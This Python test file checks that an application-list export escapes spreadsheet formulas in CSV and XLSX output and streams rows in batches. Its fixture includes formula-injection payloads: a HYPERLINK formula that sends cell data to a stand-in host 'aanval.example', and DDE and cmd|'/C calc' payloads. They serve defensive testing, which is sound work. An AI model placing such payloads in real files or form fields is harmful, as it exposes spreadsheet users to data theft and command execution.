"""Export of the application list: formulas never reach a spreadsheet (issue 9, item 8) and the
export streams rows instead of holding the whole list (issue 9, item 15)."""

from __future__ import annotations

import csv
import datetime as dt
import tracemalloc
import uuid
import zipfile
from pathlib import Path

import pytest
from sqlalchemy import update

from commissie_app import cli
from commissie_app.db.models import Organisation
from commissie_app.domain.codes import Criterion
from commissie_app.services import transfer
from commissie_app.services.applications import register_application
from commissie_app.services.csv_safe import protect, unprotect
from commissie_app.services.transfer import export_applications, import_applications
from tests.factories import app_data, org_data
from tests.test_transfer import snapshot, wipe

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# Each hostile value in a free-text field a user (or an imported file) can fill.
HOSTILE = dict(
    name='=HYPERLINK("http://aanval.example/?d="&A1;"Klik hier")',
    street="@SUM(1+1)*cmd|' /C calc'!A0",
    place="-2+3",
    contact_person="+cmd|' /C calc'!A0",
    phone="+31 23 511 5115",
    mission='=DDE("cmd";"/C calc";"!A0")',
)


def populate_hostile(ctx) -> None:
    register_application(ctx, org_data(kvk="01234567", **HOSTILE), app_data(Criterion.PSO30, received_on=dt.date(2026, 11, 2)))
    # A value that itself begins with a quote before a formula character, and one with a plain quote.
    register_application(ctx, org_data(kvk="07654321", name="'=1+1", mission="'Tussen aanhalingstekens'", contact_person="-"),
                         app_data(Criterion.BCORP, received_on=dt.date(2026, 11, 3)))


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh, delimiter=";"))


def assert_no_formula_cell(path: Path) -> None:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        for row in csv.reader(fh, delimiter=";"):
            for cell in row:
                assert not cell.startswith(FORMULA_START), cell


def test_csv_export_quotes_formulas_and_imports_back_unchanged(ctx, tmp_path):
    """Issue 9, item 8: hostile cells are written with a leading quote (OWASP), and the app's own
    import reads them back as the original values."""
    populate_hostile(ctx)
    before = snapshot(ctx)
    path = tmp_path / "aanvragen.csv"

    assert export_applications(ctx, path) == 2

    assert_no_formula_cell(path)
    rows = {r["kvk"]: r for r in read_csv(path)}
    hostile = rows["01234567"]
    assert hostile["naam"] == "'" + HOSTILE["name"]
    assert hostile["adres"] == "'" + HOSTILE["street"]
    assert hostile["plaats"] == "'-2+3"
    assert hostile["contactpersoon"] == "'+cmd|' /C calc'!A0"
    assert hostile["telefoon"] == "'+31 23 511 5115"
    assert hostile["missie"] == "'" + HOSTILE["mission"]
    other = rows["07654321"]
    assert (other["naam"], other["missie"], other["contactpersoon"]) == ("''=1+1", "'Tussen aanhalingstekens'", "'-")

    again = import_applications(ctx, path)  # same database: nothing changes, no organisation "updated"
    assert (again.new_applications, again.already_present, again.updated_organisations) == (0, 2, 0)
    wipe(ctx.db)
    import_applications(ctx, path)
    assert snapshot(ctx) == before


def test_csv_export_quotes_cells_beginning_with_tab_or_carriage_return(sqlite_ctx, tmp_path):
    """Issue 9, item 8: values stored before the editor stripped them (a tab or CR in front) are quoted too."""
    populate_hostile(sqlite_ctx)
    with sqlite_ctx.db.engine.begin() as conn:
        conn.execute(update(Organisation).where(Organisation.kvk == "07654321")
                     .values(street="\t=1+2", place="\r=1+3", mission="\n-x"))
    path = tmp_path / "aanvragen.csv"

    export_applications(sqlite_ctx, path)

    assert_no_formula_cell(path)
    row = next(r for r in read_csv(path) if r["kvk"] == "07654321")
    assert (row["adres"], row["plaats"], row["missie"]) == ("'\t=1+2", "'\r=1+3", "\n-x")


def test_cli_export_applications_csv_is_quoted(sqlite_ctx, tmp_path, capsys):
    """Issue 9, item 8: `commissie-app export-applications FILE.csv` writes the quoted cells."""
    populate_hostile(sqlite_ctx)
    out = tmp_path / "uit.csv"

    assert cli.main(["--db", sqlite_ctx.db.url, "--als", "Sanne Secretaris", "export-applications", str(out)]) == 0

    assert_no_formula_cell(out)
    assert "'=HYPERLINK(" in out.read_text(encoding="utf-8-sig")


def test_xlsx_export_keeps_hostile_values_as_text_cells(ctx, tmp_path):
    """Issue 9, item 8: in XLSX every hostile value is a string cell with the original value, never a formula."""
    from openpyxl import load_workbook

    populate_hostile(ctx)
    path = tmp_path / "aanvragen.xlsx"

    assert export_applications(ctx, path) == 2

    ws = load_workbook(path).active
    header = [c.value for c in ws[1]]
    row = {name: ws.cell(row=2, column=header.index(name) + 1) for name in header}
    for column, field in (("naam", "name"), ("adres", "street"), ("plaats", "place"),
                          ("contactpersoon", "contact_person"), ("telefoon", "phone"), ("missie", "mission")):
        cell = row[column]
        assert (cell.value, cell.data_type) == (HOSTILE[field], "s"), column
    assert ws.cell(row=3, column=1).value == "'=1+1"
    with zipfile.ZipFile(path) as z:  # no formula element anywhere in the sheet
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet


@pytest.mark.parametrize("value", ["", "abc", "=1+1", "+31 6", "-", "@x", "\tx", "\rx", "'", "'abc", "'=1", "''+1",
                                   "a=1", " =1"])
def test_protect_and_unprotect_round_trip_every_value(value):
    """Issue 9, item 8: the quote rule is exact both ways, also for values that begin with quotes."""
    cell = protect(value)
    assert not cell.startswith(FORMULA_START)
    assert unprotect(cell) == value


def test_every_csv_writer_of_the_app_goes_through_csv_safe():
    """Issue 9, item 8: one helper writes every CSV; no other module of the app makes a csv.writer."""
    root = Path(transfer.__file__).parents[1]
    writers = [p.relative_to(root).as_posix() for p in root.rglob("*.py") if "csv.writer(" in p.read_text(encoding="utf-8")]
    assert writers == ["services/csv_safe.py"]


def add_many(db, n: int, start: int = 0) -> None:
    """``n`` organisations with one application and one criterion each, inserted in bulk."""
    from sqlalchemy import insert

    from commissie_app.db.models import Application, Evidence

    now = dt.datetime.now(dt.timezone.utc)
    orgs, apps, evidence = [], [], []
    for i in range(start, start + n):
        org_id, app_id = uuid.uuid4(), uuid.uuid4()
        orgs.append(dict(id=org_id, version=1, created_at=now, updated_at=now, name=f"Organisatie {i} " + "x" * 60,
                         kvk=f"{20_000_000 + i:08d}", legal_form="bv", municipality="Haarlem", street="Straat 1",
                         postcode="2011 AA", place="Haarlem", contact_person="Iemand", email="a@example.nl",
                         phone="023 555 0000", website="www.example.nl", founded_on=dt.date(2010, 1, 1),
                         mission="Een missie van een regel of wat. " * 4, impact_domains=["work"]))
        apps.append(dict(id=app_id, version=1, created_at=now, updated_at=now, organisation_id=org_id,
                         received_on=dt.date(2026, 1, 1) + dt.timedelta(days=i % 300), status="received",
                         notes="", info_requested="", info_due_on=None))
        evidence.append(dict(id=uuid.uuid4(), application_id=app_id, criterion="PSO30", reference="", valid_until=None))
    with db.engine.begin() as conn:
        conn.execute(insert(Organisation), orgs)
        conn.execute(insert(Application), apps)
        conn.execute(insert(Evidence), evidence)


def traced_peak(fn) -> int:
    tracemalloc.start()
    try:
        fn()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_memory_does_not_grow_with_the_number_of_rows(ctx, tmp_path, suffix, monkeypatch):
    """Issue 9, item 15: the export writes rows as it reads them, so four times the rows take no more
    memory (it held every application, organisation and cell at once). Batches of 100 rows here,
    so that a few hundred rows show it (tracing every allocation is slow)."""
    monkeypatch.setattr(transfer, "EXPORT_BATCH", 100)
    export_applications(ctx, tmp_path / f"leeg{suffix}")  # modules imported before anything is measured
    add_many(ctx.db, 300)
    small = traced_peak(lambda: export_applications(ctx, tmp_path / f"klein{suffix}"))
    add_many(ctx.db, 900, start=300)
    large = traced_peak(lambda: export_applications(ctx, tmp_path / f"groot{suffix}"))

    assert large < 1.3 * small, f"{small / 1e6:.2f} MB for 300 rows, {large / 1e6:.2f} MB for 1,200"
    assert export_applications(ctx, tmp_path / f"alle{suffix}") == 1200


def test_export_of_chosen_rows_keeps_their_order_across_batches(sqlite_ctx, tmp_path, monkeypatch):
    """Issue 9, item 15: the list's own selection, read in batches, comes out in the list's order, once each."""
    from commissie_app.services.applications import list_rows

    monkeypatch.setattr(transfer, "EXPORT_BATCH", 2)
    add_many(sqlite_ctx.db, 5)
    ids = [r.application_id for r in sorted(list_rows(sqlite_ctx), key=lambda r: r.kvk, reverse=True)]
    path = tmp_path / "selectie.csv"

    assert export_applications(sqlite_ctx, path, [ids[0], uuid.uuid4(), *ids[1:], ids[2]]) == 5

    assert [r["kvk"] for r in read_csv(path)] == [f"{20_000_000 + i:08d}" for i in (4, 3, 2, 1, 0)]
